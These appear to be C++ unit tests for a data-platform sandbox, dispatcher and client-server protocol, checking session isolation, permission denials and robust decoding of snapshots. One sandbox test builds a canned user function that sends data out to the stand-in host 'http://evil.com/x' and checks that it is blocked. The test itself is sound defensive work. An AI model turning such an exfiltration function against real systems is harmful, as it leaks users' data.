  ok_call.result_type = TypeKind::kString;
  EXPECT_TRUE(sandbox.ExecuteBatch(batch, {ok_call}).ok());

  UdfInvocation bad_call;
  bad_call.bytecode = canned::NetworkExfiltrationUdf("http://evil.com/x");
  bad_call.arg_indices = {0};
  bad_call.result_name = "r";
  bad_call.result_type = TypeKind::kString;
  EXPECT_TRUE(
      sandbox.ExecuteBatch(batch, {bad_call}).status().IsPermissionDenied());
}

TEST_F(SandboxTest, FuelLimitAppliesInsideSandbox) {
  SandboxPolicy policy = SandboxPolicy::LockedDown();
  policy.fuel = 1000;
  Sandbox sandbox("sbx-t", "owner", policy, &env_, &clock_);
  TableBuilder builder(Schema({{"x", TypeKind::kInt64, true}}));
  ASSERT_TRUE(builder.AppendRow({Value::Int(1)}).ok());
  UdfInvocation spin;
  spin.bytecode = canned::InfiniteLoopUdf();
  spin.result_name = "r";
  spin.result_type = TypeKind::kInt64;
  auto result = sandbox.ExecuteBatch(*builder.Build().Combine(), {spin});
  EXPECT_EQ(result.status().code(), StatusCode::kResourceExhausted);
}

// ---- Dispatcher ---------------------------------------------------------------------------

class DispatcherTest : public SandboxTest {
 protected:
  DispatcherTest()
      : provisioner_(&env_, &clock_, /*cold_start_micros=*/2'000'000),
        dispatcher_(&provisioner_, &clock_) {}

  LocalSandboxProvisioner provisioner_;
  Dispatcher dispatcher_;
};

TEST_F(DispatcherTest, ColdStartChargedOnceThenReused) {
  int64_t before = clock_.NowMicros();
  auto s1 = dispatcher_.Acquire("sess-1", "owner-a",
                                SandboxPolicy::LockedDown());
  ASSERT_TRUE(s1.ok());
  EXPECT_EQ(clock_.NowMicros() - before, 2'000'000);  // ~2s cold start (§5)

  int64_t mid = clock_.NowMicros();
  auto s2 = dispatcher_.Acquire("sess-1", "owner-a",
                                SandboxPolicy::LockedDown());
  ASSERT_TRUE(s2.ok());
  EXPECT_EQ(*s1, *s2);                      // same sandbox
  EXPECT_EQ(clock_.NowMicros(), mid);       // no second cold start
  EXPECT_EQ(dispatcher_.stats().cold_starts, 1u);
  EXPECT_EQ(dispatcher_.stats().reuses, 1u);
}

TEST_F(DispatcherTest, TrustDomainsNeverShareASandbox) {
  auto a = dispatcher_.Acquire("sess-1", "owner-a",
                               SandboxPolicy::LockedDown());
  auto b = dispatcher_.Acquire("sess-1", "owner-b",
                               SandboxPolicy::LockedDown());
  ASSERT_TRUE(a.ok());
  ASSERT_TRUE(b.ok());
  EXPECT_NE(*a, *b);
  EXPECT_EQ(dispatcher_.ActiveSandboxCount(), 2u);
}

TEST_F(DispatcherTest, SessionsNeverShareASandbox) {
  auto a = dispatcher_.Acquire("sess-1", "owner-a",
                               SandboxPolicy::LockedDown());
  auto b = dispatcher_.Acquire("sess-2", "owner-a",
                               SandboxPolicy::LockedDown());
  EXPECT_NE(*a, *b);
}

TEST_F(DispatcherTest, PolicyChangeReplacesSandbox) {
  auto a = dispatcher_.Acquire("sess-1", "owner-a",
                               SandboxPolicy::LockedDown());
  ASSERT_TRUE(a.ok());
  auto b = dispatcher_.Acquire("sess-1", "owner-a",
                               SandboxPolicy::WithEgress({"api.good.com"}));
  ASSERT_TRUE(b.ok());
  EXPECT_EQ(dispatcher_.stats().cold_starts, 2u);
  EXPECT_EQ(dispatcher_.stats().evictions, 1u);
  EXPECT_EQ(dispatcher_.ActiveSandboxCount(), 1u);
}

TEST_F(DispatcherTest, ReleaseSessionDestroysOnlyItsSandboxes) {
  ASSERT_TRUE(dispatcher_.Acquire("sess-1", "a",
                                  SandboxPolicy::LockedDown()).ok());
  ASSERT_TRUE(dispatcher_.Acquire("sess-1", "b",
                                  SandboxPolicy::LockedDown()).ok());
  ASSERT_TRUE(dispatcher_.Acquire("sess-2", "a",
                                  SandboxPolicy::LockedDown()).ok());
  dispatcher_.ReleaseSession("sess-1");
  EXPECT_EQ(dispatcher_.ActiveSandboxCount(), 1u);
}

TEST_F(DispatcherTest, IdleEviction) {
  ASSERT_TRUE(dispatcher_.Acquire("sess-1", "a",
                                  SandboxPolicy::LockedDown()).ok());
  clock_.AdvanceMicros(10'000'000);
  EXPECT_EQ(dispatcher_.EvictIdle(/*idle_micros=*/5'000'000), 1u);
  EXPECT_EQ(dispatcher_.ActiveSandboxCount(), 0u);
}

}  // namespace
}  // namespace lakeguard
