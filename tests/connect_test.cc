// Tests for src/connect: wire protocol round-trips and version tolerance,
// the service's session lifecycle / multi-user isolation, and the client
// DataFrame API over the full wire path.

#include <gtest/gtest.h>

#include "columnar/ipc.h"
#include "common/retry.h"
#include "connect/client.h"
#include "connect/protocol.h"
#include "connect/service.h"
#include "connect/session_snapshot.h"
#include "core/platform.h"
#include "udf/builder.h"

namespace lakeguard {
namespace {

// ---- Protocol --------------------------------------------------------------------

TEST(ProtocolTest, RequestRoundTrip) {
  ConnectRequest request;
  request.session_id = "sess-9";
  request.auth_token = "tok-x";
  request.plan_bytes = {1, 2, 3, 4};
  request.operation_id = "op-7";
  auto back = DecodeRequest(EncodeRequest(request));
  ASSERT_TRUE(back.ok());
  EXPECT_EQ(back->session_id, "sess-9");
  EXPECT_EQ(back->auth_token, "tok-x");
  EXPECT_EQ(back->plan_bytes, request.plan_bytes);
  EXPECT_EQ(back->operation_id, "op-7");
  EXPECT_EQ(back->client_version, kConnectProtocolVersion);
}

TEST(ProtocolTest, ResponseRoundTripWithChunks) {
  ConnectResponse response;
  response.operation_id = "op-1";
  response.schema = Schema({{"x", TypeKind::kInt64, true}});
  response.ok = true;
  response.total_chunks = 2;
  ResultChunk chunk;
  chunk.chunk_index = 0;
  chunk.frame = {9, 9, 9};
  response.inline_chunks.push_back(chunk);
  chunk.chunk_index = 1;
  chunk.last = true;
  response.inline_chunks.push_back(chunk);
  auto back = DecodeResponse(EncodeResponse(response));
  ASSERT_TRUE(back.ok());
  EXPECT_TRUE(back->ok);
  ASSERT_EQ(back->inline_chunks.size(), 2u);
  EXPECT_TRUE(back->inline_chunks[1].last);
  EXPECT_TRUE(back->schema.Equals(response.schema));
}

TEST(ProtocolTest, UnknownFieldsSkippedForwardCompat) {
  // A "future" client adds field 99; today's server must decode the rest.
  ConnectRequest request;
  request.session_id = "s";
  request.sql = "SELECT 1";
  ByteWriter w;
  w.PutRaw(EncodeRequest(request).data(), EncodeRequest(request).size());
  w.PutTaggedString(99, "from-the-future");
  w.PutTaggedVarint(100, 12345);
  auto back = DecodeRequest(w.data());
  ASSERT_TRUE(back.ok()) << back.status();
  EXPECT_EQ(back->session_id, "s");
  EXPECT_EQ(back->sql, "SELECT 1");
}

TEST(ProtocolTest, OldClientMissingFieldsStillDecodes) {
  // An "old" client that only knows session + sql.
  ByteWriter w;
  w.PutTaggedString(2, "sess-old");
  w.PutTaggedString(5, "SELECT 1");
  auto back = DecodeRequest(w.data());
  ASSERT_TRUE(back.ok());
  EXPECT_EQ(back->session_id, "sess-old");
  EXPECT_EQ(back->client_version, 0u);  // absent -> 0, server tolerates
}

TEST(ProtocolTest, TruncatedRequestRejected) {
  ConnectRequest request;
  request.sql = "SELECT 1";
  auto bytes = EncodeRequest(request);
  bytes.resize(bytes.size() - 3);
  EXPECT_FALSE(DecodeRequest(bytes).ok());
}

// ---- Service + client --------------------------------------------------------------

class ConnectServiceTest : public ::testing::Test {
 protected:
  ConnectServiceTest() {
    EXPECT_TRUE(platform_.AddUser("admin").ok());
    EXPECT_TRUE(platform_.AddUser("alice").ok());
    EXPECT_TRUE(platform_.AddUser("bob").ok());
    platform_.AddMetastoreAdmin("admin");
    platform_.RegisterToken("tok-admin", "admin");
    platform_.RegisterToken("tok-alice", "alice");
    platform_.RegisterToken("tok-bob", "bob");
    EXPECT_TRUE(platform_.catalog().CreateCatalog("admin", "main").ok());
    EXPECT_TRUE(platform_.catalog().CreateSchema("admin", "main.s").ok());
    cluster_ = platform_.CreateStandardCluster();

    auto admin = platform_.Connect(cluster_, "tok-admin");
    EXPECT_TRUE(admin.ok());
    EXPECT_TRUE(admin->Sql("CREATE TABLE main.s.t (x BIGINT, tag STRING)")
                    .ok());
    EXPECT_TRUE(admin->Sql("INSERT INTO main.s.t VALUES "
                           "(1, 'a'), (2, 'b'), (3, 'c')")
                    .ok());
    EXPECT_TRUE(admin->Sql("GRANT USE CATALOG ON main TO alice").ok());
    EXPECT_TRUE(admin->Sql("GRANT USE SCHEMA ON main.s TO alice").ok());
    EXPECT_TRUE(admin->Sql("GRANT SELECT ON main.s.t TO alice").ok());
  }

  LakeguardPlatform platform_;
  ClusterHandle* cluster_ = nullptr;
};

TEST_F(ConnectServiceTest, BadTokenRejected) {
  auto client = platform_.Connect(cluster_, "tok-wrong");
  EXPECT_TRUE(client.status().IsUnauthenticated());
}

TEST_F(ConnectServiceTest, SessionCarriesIdentity) {
  auto alice = platform_.Connect(cluster_, "tok-alice");
  ASSERT_TRUE(alice.ok());
  auto rows = alice->Sql("SELECT CURRENT_USER() AS u FROM main.s.t LIMIT 1");
  ASSERT_TRUE(rows.ok()) << rows.status();
  EXPECT_EQ(rows->Combine()->CellAt(0, 0).string_value(), "alice");
}

TEST_F(ConnectServiceTest, DataFrameApiOverTheWire) {
  auto alice = platform_.Connect(cluster_, "tok-alice");
  ASSERT_TRUE(alice.ok());
  auto rows = alice->ReadTable("main.s.t")
                  .Filter(BinOp(BinaryOpKind::kGe, Col("x"), LitInt(2)))
                  .Select({Col("x"), Col("tag")}, {"x", "tag"})
                  .OrderBy({{Col("x"), false}})
                  .Limit(1)
                  .Collect();
  ASSERT_TRUE(rows.ok()) << rows.status();
  auto batch = *rows->Combine();
  ASSERT_EQ(batch.num_rows(), 1u);
  EXPECT_EQ(batch.CellAt(0, 0).int_value(), 3);
}

TEST_F(ConnectServiceTest, DataFrameGroupByAgg) {
  auto alice = platform_.Connect(cluster_, "tok-alice");
  ASSERT_TRUE(alice.ok());
  auto rows = alice->ReadTable("main.s.t")
                  .GroupByAgg({}, {}, {Func("SUM", {Col("x")})}, {"s"})
                  .Collect();
  ASSERT_TRUE(rows.ok());
  EXPECT_EQ(rows->Combine()->CellAt(0, 0).int_value(), 6);
}

TEST_F(ConnectServiceTest, LocalRelationRoundTrip) {
  auto alice = platform_.Connect(cluster_, "tok-alice");
  ASSERT_TRUE(alice.ok());
  TableBuilder builder(Schema({{"v", TypeKind::kInt64, true}}));
  ASSERT_TRUE(builder.AppendRow({Value::Int(41)}).ok());
  auto rows = alice->FromBatch(*builder.Build().Combine())
                  .Select({BinOp(BinaryOpKind::kAdd, Col("v"), LitInt(1))},
                          {"v1"})
                  .Collect();
  ASSERT_TRUE(rows.ok()) << rows.status();
  EXPECT_EQ(rows->Combine()->CellAt(0, 0).int_value(), 42);
}

TEST_F(ConnectServiceTest, LargeResultStreamsInChunks) {
  auto admin = platform_.Connect(cluster_, "tok-admin");
  ASSERT_TRUE(admin.ok());
  ASSERT_TRUE(admin->Sql("CREATE TABLE main.s.big (x BIGINT)").ok());
  for (int chunk = 0; chunk < 6; ++chunk) {
    std::string sql = "INSERT INTO main.s.big VALUES ";
    for (int i = 0; i < 1000; ++i) {
      if (i > 0) sql += ", ";
      sql += "(" + std::to_string(chunk * 1000 + i) + ")";
    }
    ASSERT_TRUE(admin->Sql(sql).ok());
  }
  // 6000 rows at 1024 rows/chunk > inline limit -> FetchChunk path.
  auto rows = admin->Sql("SELECT x FROM main.s.big");
  ASSERT_TRUE(rows.ok()) << rows.status();
  EXPECT_EQ(rows->num_rows(), 6000u);
}

TEST_F(ConnectServiceTest, CrossSessionResultAccessDenied) {
  auto admin = platform_.Connect(cluster_, "tok-admin");
  auto alice = platform_.Connect(cluster_, "tok-alice");
  ASSERT_TRUE(admin.ok());
  ASSERT_TRUE(alice.ok());
  // admin runs a large query whose chunks are buffered server-side.
  ASSERT_TRUE(admin->Sql("CREATE TABLE main.s.big2 (x BIGINT)").ok());
  std::string sql = "INSERT INTO main.s.big2 VALUES (0)";
  for (int i = 1; i < 6000; ++i) sql += ", (" + std::to_string(i) + ")";
  ASSERT_TRUE(admin->Sql(sql).ok());

  ConnectRequest request;
  request.session_id = admin->session_id();
  request.sql = "SELECT x FROM main.s.big2";
  ConnectResponse response = cluster_->service->Execute(request);
  ASSERT_TRUE(response.ok);
  ASSERT_TRUE(response.inline_chunks.empty());  // buffered, not inline
  // alice must not be able to fetch admin's buffered chunks.
  auto stolen = cluster_->service->FetchChunk(alice->session_id(),
                                              response.operation_id, 0);
  EXPECT_TRUE(stolen.status().IsPermissionDenied());
  // admin can.
  EXPECT_TRUE(cluster_->service
                  ->FetchChunk(admin->session_id(), response.operation_id, 0)
                  .ok());
}

TEST_F(ConnectServiceTest, ClosedSessionIsTombstoned) {
  auto alice = platform_.Connect(cluster_, "tok-alice");
  ASSERT_TRUE(alice.ok());
  ASSERT_TRUE(alice->Close().ok());
  auto rows = alice->Sql("SELECT x FROM main.s.t");
  EXPECT_FALSE(rows.ok());
}

TEST_F(ConnectServiceTest, IdleSessionsExpire) {
  auto alice = platform_.Connect(cluster_, "tok-alice");
  ASSERT_TRUE(alice.ok());
  size_t before = cluster_->service->ActiveSessionCount();
  platform_.simulated_clock()->AdvanceMicros(3600LL * 1000 * 1000);
  size_t expired = cluster_->service->ExpireIdleSessions(
      /*idle_micros=*/1800LL * 1000 * 1000);
  EXPECT_GE(expired, 1u);
  EXPECT_LT(cluster_->service->ActiveSessionCount(), before);
}

TEST_F(ConnectServiceTest, SessionCloseReleasesSandboxes) {
  // Run a UDF so a sandbox exists for this session, then close.
  FunctionInfo fn;
  fn.full_name = "main.s.f";
  fn.num_args = 2;
  fn.return_type = TypeKind::kInt64;
  fn.body = canned::SumUdf();
  ASSERT_TRUE(platform_.catalog().CreateFunction("admin", fn).ok());
  ASSERT_TRUE(platform_.catalog().Grant("admin", "main.s.f",
                                        Privilege::kExecute, "alice").ok());
  auto alice = platform_.Connect(cluster_, "tok-alice");
  ASSERT_TRUE(alice.ok());
  ASSERT_TRUE(
      alice->Sql("SELECT main.s.f(x, 1) AS y FROM main.s.t").ok());
  EXPECT_GE(cluster_->cluster->driver_host().dispatcher().ActiveSandboxCount(),
            1u);
  ASSERT_TRUE(alice->Close().ok());
  EXPECT_EQ(cluster_->cluster->driver_host().dispatcher().ActiveSandboxCount(),
            0u);
}

TEST_F(ConnectServiceTest, ErrorsTravelTheWireTyped) {
  auto alice = platform_.Connect(cluster_, "tok-alice");
  ASSERT_TRUE(alice.ok());
  auto rows = alice->Sql("SELECT nope FROM main.s.t");
  ASSERT_FALSE(rows.ok());
  EXPECT_NE(rows.status().message().find("invalid_argument"),
            std::string::npos);
}

TEST_F(ConnectServiceTest, RpcOnGarbageBytesReturnsEncodedError) {
  auto response_bytes = cluster_->service->HandleRpc({0xFF, 0xFF, 0xFF});
  auto response = DecodeResponse(response_bytes);
  ASSERT_TRUE(response.ok());
  EXPECT_FALSE(response->ok);
}

// ---- Protocol v5: statement ids --------------------------------------------------

TEST(ProtocolTest, StatementIdRoundTrip) {
  ConnectRequest request;
  request.session_id = "sess-1";
  request.auth_token = "tok";
  request.statement_id = "stmt-42";
  auto back = DecodeRequest(EncodeRequest(request));
  ASSERT_TRUE(back.ok());
  EXPECT_EQ(back->statement_id, "stmt-42");
  EXPECT_TRUE(back->sql.empty());
  EXPECT_TRUE(back->plan_bytes.empty());
}

// ---- Session snapshots -----------------------------------------------------------

TEST(SessionSnapshotTest, RoundTripPreservesEveryField) {
  SessionSnapshot snapshot;
  snapshot.user = "alice";
  snapshot.source_epoch = 17;
  snapshot.temp_views["v"] = "SELECT 1";
  PreparedStatementRecord record;
  record.statement_id = "stmt-1";
  record.sql = "SELECT x FROM main.s.t";
  record.bound_principal = "alice";
  record.bound_compute_id = "compute-9";
  record.catalog_epoch = 16;
  snapshot.prepared.push_back(record);
  OperationWatermark watermark;
  watermark.operation_id = "op-3";
  watermark.released_below = 7;
  watermark.done = false;
  snapshot.watermarks.push_back(watermark);

  auto back = DecodeSessionSnapshot(EncodeSessionSnapshot(snapshot));
  ASSERT_TRUE(back.ok()) << back.status();
  EXPECT_EQ(back->user, "alice");
  EXPECT_EQ(back->source_epoch, 17u);
  EXPECT_EQ(back->temp_views.at("v"), "SELECT 1");
  ASSERT_EQ(back->prepared.size(), 1u);
  EXPECT_EQ(back->prepared[0].statement_id, "stmt-1");
  EXPECT_EQ(back->prepared[0].sql, "SELECT x FROM main.s.t");
  EXPECT_EQ(back->prepared[0].bound_principal, "alice");
  EXPECT_EQ(back->prepared[0].bound_compute_id, "compute-9");
  EXPECT_EQ(back->prepared[0].catalog_epoch, 16u);
  ASSERT_EQ(back->watermarks.size(), 1u);
  EXPECT_EQ(back->watermarks[0].operation_id, "op-3");
  EXPECT_EQ(back->watermarks[0].released_below, 7u);
  EXPECT_FALSE(back->watermarks[0].done);
}

TEST(SessionSnapshotTest, TruncatedSnapshotRejected) {
  SessionSnapshot snapshot;
  snapshot.user = "alice";
  snapshot.temp_views["v"] = "SELECT 1";
  auto bytes = EncodeSessionSnapshot(snapshot);
  bytes.resize(bytes.size() - 2);
  EXPECT_FALSE(DecodeSessionSnapshot(bytes).ok());
}

/// A representative snapshot exercising every field of the serde.
SessionSnapshot FuzzSeedSnapshot() {
  SessionSnapshot snapshot;
  snapshot.user = "alice";
  snapshot.source_epoch = 42;
  snapshot.temp_views["v1"] = "SELECT 1";
  snapshot.temp_views["v2"] = "SELECT x FROM main.s.t WHERE x > 1";
  for (int i = 0; i < 3; ++i) {
    PreparedStatementRecord record;
    record.statement_id = "stmt-" + std::to_string(i);
    record.sql = "SELECT COUNT(*) FROM main.s.t" + std::to_string(i);
    record.bound_principal = "alice";
    record.bound_compute_id = "compute-" + std::to_string(i);
    record.catalog_epoch = 40 + i;
    snapshot.prepared.push_back(record);
  }
  OperationWatermark watermark;
  watermark.operation_id = "op-7";
  watermark.released_below = 12;
  watermark.done = true;
  snapshot.watermarks.push_back(watermark);
  return snapshot;
}

// Property-style fuzz over the decode path: any malformed input — truncated
// at EVERY possible length, any single bit flipped, or outright garbage —
// must come back as a typed error or decode as a fully valid snapshot.
// Never a crash, and never a partially populated result that a recovery
// path could half-trust (a flip that survives decoding must still satisfy
// the struct's own invariants, since recovery re-verifies everything
// against the catalog anyway).

TEST(SessionSnapshotFuzzTest, EveryTruncationIsTypedOrWhole) {
  const std::vector<uint8_t> bytes = EncodeSessionSnapshot(FuzzSeedSnapshot());
  for (size_t length = 0; length < bytes.size(); ++length) {
    std::vector<uint8_t> cut(bytes.begin(), bytes.begin() + length);
    auto decoded = DecodeSessionSnapshot(cut);
    if (decoded.ok()) continue;  // a self-delimiting prefix is acceptable
    EXPECT_FALSE(decoded.status().ToString().empty());
    EXPECT_NE(decoded.status().code(), StatusCode::kOk);
  }
}

TEST(SessionSnapshotFuzzTest, EverySingleBitFlipIsTypedOrValid) {
  const std::vector<uint8_t> bytes = EncodeSessionSnapshot(FuzzSeedSnapshot());
  for (size_t i = 0; i < bytes.size(); ++i) {
    for (int bit = 0; bit < 8; ++bit) {
      std::vector<uint8_t> mutated = bytes;
      mutated[i] = static_cast<uint8_t>(mutated[i] ^ (1u << bit));
      auto decoded = DecodeSessionSnapshot(mutated);
      if (!decoded.ok()) {
        EXPECT_NE(decoded.status().code(), StatusCode::kOk);
        continue;
      }
      // A flip may decode into a snapshot with *different* contents (e.g.
      // a shortened string) — that is a complete decode of different data,
      // and recovery re-verifies it against the catalog. What must hold is
      // that the struct is whole: re-encoding and decoding it again is
      // stable, which a partially populated result would not survive.
      auto again = DecodeSessionSnapshot(EncodeSessionSnapshot(*decoded));
      ASSERT_TRUE(again.ok()) << again.status();
      EXPECT_EQ(again->user, decoded->user);
      EXPECT_EQ(again->source_epoch, decoded->source_epoch);
      EXPECT_EQ(again->temp_views, decoded->temp_views);
      EXPECT_EQ(again->prepared.size(), decoded->prepared.size());
      EXPECT_EQ(again->watermarks.size(), decoded->watermarks.size());
    }
  }
}

TEST(SessionSnapshotFuzzTest, GarbageBytesNeverDecode) {
  // Deterministic xorshift garbage: no real snapshot framing, arbitrary
  // lengths. All of it must be rejected with a typed status.
  uint64_t state = 0x9e3779b97f4a7c15ull;
  auto next = [&state]() {
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return static_cast<uint8_t>(state);
  };
  for (size_t round = 0; round < 64; ++round) {
    std::vector<uint8_t> garbage(1 + (round * 7) % 513);
    for (uint8_t& byte : garbage) byte = next();
    auto decoded = DecodeSessionSnapshot(garbage);
    if (decoded.ok()) {
      // Vanishingly unlikely — but if framing coincidentally parses, the
      // result must still be whole: round-trip stable, not partial.
      auto again = DecodeSessionSnapshot(EncodeSessionSnapshot(*decoded));
      EXPECT_TRUE(again.ok()) << again.status();
      continue;
    }
    EXPECT_NE(decoded.status().code(), StatusCode::kOk);
  }
}

// ---- Prepared statements ---------------------------------------------------------

TEST_F(ConnectServiceTest, PreparedStatementLifecycle) {
  auto session = cluster_->service->OpenSession("tok-alice");
  ASSERT_TRUE(session.ok());
  auto statement = cluster_->service->PrepareStatement(
      *session, "SELECT COUNT(*) AS n FROM main.s.t");
  ASSERT_TRUE(statement.ok()) << statement.status();

  ConnectRequest request;
  request.session_id = *session;
  request.auth_token = "tok-alice";
  request.statement_id = *statement;
  ConnectResponse response = cluster_->service->Execute(request);
  ASSERT_TRUE(response.ok) << response.error_message;
  ASSERT_FALSE(response.inline_chunks.empty());
  auto batch = ipc::DeserializeBatch(response.inline_chunks[0].frame);
  ASSERT_TRUE(batch.ok());
  EXPECT_EQ(batch->CellAt(0, 0).int_value(), 3);

  // Another principal's session cannot execute the statement by id.
  auto bob = cluster_->service->OpenSession("tok-bob");
  ASSERT_TRUE(bob.ok());
  ConnectRequest stolen = request;
  stolen.session_id = *bob;
  stolen.auth_token = "tok-bob";
  ConnectResponse denied = cluster_->service->Execute(stolen);
  EXPECT_FALSE(denied.ok);
  EXPECT_EQ(StatusCodeFromString(denied.error_code),
            StatusCode::kPermissionDenied)
      << denied.error_code;

  // Unknown statement ids are typed kNotFound.
  ConnectRequest unknown = request;
  unknown.statement_id = "stmt-never-prepared";
  ConnectResponse missing = cluster_->service->Execute(unknown);
  EXPECT_FALSE(missing.ok);
  EXPECT_EQ(StatusCodeFromString(missing.error_code), StatusCode::kNotFound);

  ConnectServiceStats stats = cluster_->service->service_stats();
  EXPECT_EQ(stats.statements_prepared, 1u);
  EXPECT_EQ(stats.statement_executions, 1u);
}

TEST_F(ConnectServiceTest, CatalogEpochDriftReverifiesPreparedStatement) {
  auto session = cluster_->service->OpenSession("tok-alice");
  ASSERT_TRUE(session.ok());
  auto statement = cluster_->service->PrepareStatement(
      *session, "SELECT COUNT(*) AS n FROM main.s.t");
  ASSERT_TRUE(statement.ok());

  // Any catalog change bumps the epoch; the next execution must re-verify
  // the plan against current policy before running (and then succeed, since
  // alice's grants are intact).
  auto admin = platform_.Connect(cluster_, "tok-admin");
  ASSERT_TRUE(admin.ok());
  ASSERT_TRUE(admin->Sql("CREATE TABLE main.s.unrelated (y BIGINT)").ok());

  ConnectRequest request;
  request.session_id = *session;
  request.auth_token = "tok-alice";
  request.statement_id = *statement;
  ConnectResponse response = cluster_->service->Execute(request);
  ASSERT_TRUE(response.ok) << response.error_message;
  EXPECT_EQ(cluster_->service->service_stats().statement_reverifications, 1u);
}

// ---- Session export / import -----------------------------------------------------

TEST_F(ConnectServiceTest, ExportImportRoundTripPreservesSessionState) {
  auto session = cluster_->service->OpenSession("tok-alice");
  ASSERT_TRUE(session.ok());
  ConnectRequest view;
  view.session_id = *session;
  view.auth_token = "tok-alice";
  view.sql = "CREATE TEMP VIEW mine AS SELECT x FROM main.s.t WHERE x > 1";
  ASSERT_TRUE(cluster_->service->Execute(view).ok);
  auto statement = cluster_->service->PrepareStatement(
      *session, "SELECT COUNT(*) AS n FROM mine");
  ASSERT_TRUE(statement.ok()) << statement.status();

  auto snapshot = cluster_->service->ExportSession(*session);
  ASSERT_TRUE(snapshot.ok());
  ClusterHandle* dest = platform_.CreateStandardCluster();
  auto imported = dest->service->ImportSession(*snapshot, "tok-alice");
  ASSERT_TRUE(imported.ok()) << imported.status();

  // Identity, temp views and prepared statements all survived the move.
  auto info = dest->service->GetSession(*imported);
  ASSERT_TRUE(info.ok());
  EXPECT_EQ(info->user, "alice");
  ConnectRequest run;
  run.session_id = *imported;
  run.auth_token = "tok-alice";
  run.statement_id = *statement;
  ConnectResponse counted = dest->service->Execute(run);
  ASSERT_TRUE(counted.ok) << counted.error_message;
  auto batch = ipc::DeserializeBatch(counted.inline_chunks[0].frame);
  ASSERT_TRUE(batch.ok());
  EXPECT_EQ(batch->CellAt(0, 0).int_value(), 2);  // temp view filter applied
  ConnectServiceStats stats = dest->service->service_stats();
  EXPECT_EQ(stats.sessions_imported, 1u);
  EXPECT_EQ(stats.statement_reverifications, 0u)
      << "import re-stamped the statement at the current epoch";
}

TEST_F(ConnectServiceTest, MigratedOperationFetchRedirectsToReattach) {
  auto admin = platform_.Connect(cluster_, "tok-admin");
  ASSERT_TRUE(admin.ok());
  ASSERT_TRUE(admin->Sql("CREATE TABLE main.s.big (x BIGINT)").ok());
  for (int chunk = 0; chunk < 10; ++chunk) {
    std::string sql = "INSERT INTO main.s.big VALUES ";
    for (int i = 0; i < 500; ++i) {
      if (i > 0) sql += ", ";
      sql += "(" + std::to_string(chunk * 500 + i) + ")";
    }
    ASSERT_TRUE(admin->Sql(sql).ok());
  }
  ASSERT_TRUE(admin->Sql("GRANT SELECT ON main.s.big TO alice").ok());

  auto session = cluster_->service->OpenSession("tok-alice");
  ASSERT_TRUE(session.ok());
  ConnectRequest request;
  request.session_id = *session;
  request.auth_token = "tok-alice";
  request.sql = "SELECT x FROM main.s.big";
  request.operation_id = "op-migrate-me";
  ConnectResponse started = cluster_->service->Execute(request);
  ASSERT_TRUE(started.ok) << started.error_message;
  ASSERT_TRUE(started.streaming);  // 5000 rows exceed the inline limit
  auto first = cluster_->service->FetchChunk(*session, "op-migrate-me", 0);
  ASSERT_TRUE(first.ok()) << first.status();

  auto snapshot = cluster_->service->ExportSession(*session);
  ASSERT_TRUE(snapshot.ok());
  ClusterHandle* dest = platform_.CreateStandardCluster();
  auto imported = dest->service->ImportSession(*snapshot, "tok-alice");
  ASSERT_TRUE(imported.ok()) << imported.status();

  // The destination never produced this operation's bytes. Fetching it
  // answers a typed retryable kUnavailable steering the client onto the
  // reattach path — never silently wrong data.
  auto redirected = dest->service->FetchChunk(*imported, "op-migrate-me", 1);
  ASSERT_FALSE(redirected.ok());
  EXPECT_TRUE(redirected.status().IsUnavailable()) << redirected.status();
  EXPECT_TRUE(IsTransientError(redirected.status()));
  EXPECT_EQ(dest->service->service_stats().migrated_fetch_redirects, 1u);

  // Reattach: re-execute under the SAME operation id on the destination and
  // drain everything. Chunk boundaries are deterministic, so the client
  // resumes exactly where it left off; here we drain from the start and
  // count every row once.
  ConnectRequest reattach;
  reattach.session_id = *imported;
  reattach.auth_token = "tok-alice";
  reattach.sql = "SELECT x FROM main.s.big";
  reattach.operation_id = "op-migrate-me";
  ConnectResponse resumed = dest->service->Execute(reattach);
  ASSERT_TRUE(resumed.ok) << resumed.error_message;
  size_t rows = 0;
  for (const ResultChunk& inline_chunk : resumed.inline_chunks) {
    auto batch = ipc::DeserializeBatch(inline_chunk.frame);
    ASSERT_TRUE(batch.ok());
    rows += batch->num_rows();
  }
  uint64_t next = resumed.inline_chunks.size();
  while (true) {
    auto chunk = dest->service->FetchChunk(*imported, "op-migrate-me", next);
    ASSERT_TRUE(chunk.ok()) << chunk.status();
    auto batch = ipc::DeserializeBatch(chunk->frame);
    ASSERT_TRUE(batch.ok());
    rows += batch->num_rows();
    ++next;
    if (chunk->last) break;
  }
  EXPECT_EQ(rows, 5000u);
}

}  // namespace
}  // namespace lakeguard
