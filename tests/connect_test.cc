// Tests for src/connect: wire protocol round-trips and version tolerance,
// the service's session lifecycle / multi-user isolation, and the client
// DataFrame API over the full wire path.

#include <gtest/gtest.h>

#include "connect/client.h"
#include "connect/protocol.h"
#include "connect/service.h"
#include "core/platform.h"
#include "udf/builder.h"

namespace lakeguard {
namespace {

// ---- Protocol --------------------------------------------------------------------

TEST(ProtocolTest, RequestRoundTrip) {
  ConnectRequest request;
  request.session_id = "sess-9";
  request.auth_token = "tok-x";
  request.plan_bytes = {1, 2, 3, 4};
  request.operation_id = "op-7";
  auto back = DecodeRequest(EncodeRequest(request));
  ASSERT_TRUE(back.ok());
  EXPECT_EQ(back->session_id, "sess-9");
  EXPECT_EQ(back->auth_token, "tok-x");
  EXPECT_EQ(back->plan_bytes, request.plan_bytes);
  EXPECT_EQ(back->operation_id, "op-7");
  EXPECT_EQ(back->client_version, kConnectProtocolVersion);
}

TEST(ProtocolTest, ResponseRoundTripWithChunks) {
  ConnectResponse response;
  response.operation_id = "op-1";
  response.schema = Schema({{"x", TypeKind::kInt64, true}});
  response.ok = true;
  response.total_chunks = 2;
  ResultChunk chunk;
  chunk.chunk_index = 0;
  chunk.frame = {9, 9, 9};
  response.inline_chunks.push_back(chunk);
  chunk.chunk_index = 1;
  chunk.last = true;
  response.inline_chunks.push_back(chunk);
  auto back = DecodeResponse(EncodeResponse(response));
  ASSERT_TRUE(back.ok());
  EXPECT_TRUE(back->ok);
  ASSERT_EQ(back->inline_chunks.size(), 2u);
  EXPECT_TRUE(back->inline_chunks[1].last);
  EXPECT_TRUE(back->schema.Equals(response.schema));
}

TEST(ProtocolTest, UnknownFieldsSkippedForwardCompat) {
  // A "future" client adds field 99; today's server must decode the rest.
  ConnectRequest request;
  request.session_id = "s";
  request.sql = "SELECT 1";
  ByteWriter w;
  w.PutRaw(EncodeRequest(request).data(), EncodeRequest(request).size());
  w.PutTaggedString(99, "from-the-future");
